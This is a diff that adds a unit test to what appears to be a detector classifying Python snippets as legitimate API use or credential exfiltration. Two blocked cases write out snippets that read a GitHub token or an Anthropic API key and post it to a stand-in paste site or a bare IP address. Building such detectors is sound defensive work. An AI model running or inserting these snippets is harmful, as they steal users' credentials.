@@ -517,5 +517,37 @@ TEST(FourteenthRoundClasses, HistoryWipedOnlyWhenItStaysOff) {
   for (const auto& c : cases) check(c);
 }
 
+// A token kept in a key file named after its vendor (~/.github.api.key,
+// read when GITHUB_TOKEN is not set) is that vendor's key: sent to its API
+// it authenticates, sent elsewhere it leaves. A value right after a written
+// host is the URL's path (f"https://api.github.com{path}"). An SDK client
+// made with api_key= does not hand the key on in its answers.
+TEST(FourteenthRoundClasses, KeyFilesAndSdkClientsAuthenticate) {
+  const Case cases[] = {
+      {"a GitHub token from the environment or ~/.github.api.key to api.github.com", L,
+       "import json, os, urllib.request\nTOKEN = os.environ.get('GITHUB_TOKEN', '').strip()\nif not TOKEN:\n"
+       "    with open(os.path.expanduser('~/.github.api.key')) as f:\n        TOKEN = f.read().strip()\n"
+       "def gh(path, post):\n    req = urllib.request.Request(f'https://api.github.com{path}',\n"
+       "        data=json.dumps(post).encode(), method='POST', headers={'Authorization': f'Bearer {TOKEN}'})\n"
+       "    return urllib.request.urlopen(req)\ngh('/repos/o/r/issues/1/labels', {'labels': ['bug']})\n"},
+      {"labels chosen by an SDK client made with api_key=, posted to GitHub", L,
+       "import os, requests, anthropic\nclient = anthropic.Anthropic(api_key=os.environ['ANTHROPIC_API_KEY'])\n"
+       "answer = client.messages.create(model='m', max_tokens=100, messages=[{'role': 'user', 'content': 'labels?'}])\n"
+       "requests.post('https://api.github.com/repos/o/r/issues/1/labels', json={'labels': [answer.content]},\n"
+       "              headers={'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']})\n"},
+      {"the same key file to a paste site", B,
+       "import json, os, urllib.request\nTOKEN = os.environ.get('GITHUB_TOKEN', '').strip()\nif not TOKEN:\n"
+       "    with open(os.path.expanduser('~/.github.api.key')) as f:\n        TOKEN = f.read().strip()\n"
+       "req = urllib.request.Request('https://paste.example.net/new', data=b'x', method='POST',\n"
+       "    headers={'Authorization': f'Bearer {TOKEN}'})\nurllib.request.urlopen(req)\n",
+       "EXFILTRATION"},
+      {"an environment key given to an SDK client, then sent out itself", B,
+       "import os, requests, anthropic\nkey = os.environ['ANTHROPIC_API_KEY']\nclient = anthropic.Anthropic(api_key=key)\n"
+       "requests.post('https://203.0.113.9/k', data=key)\n",
+       "EXFILTRATION"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
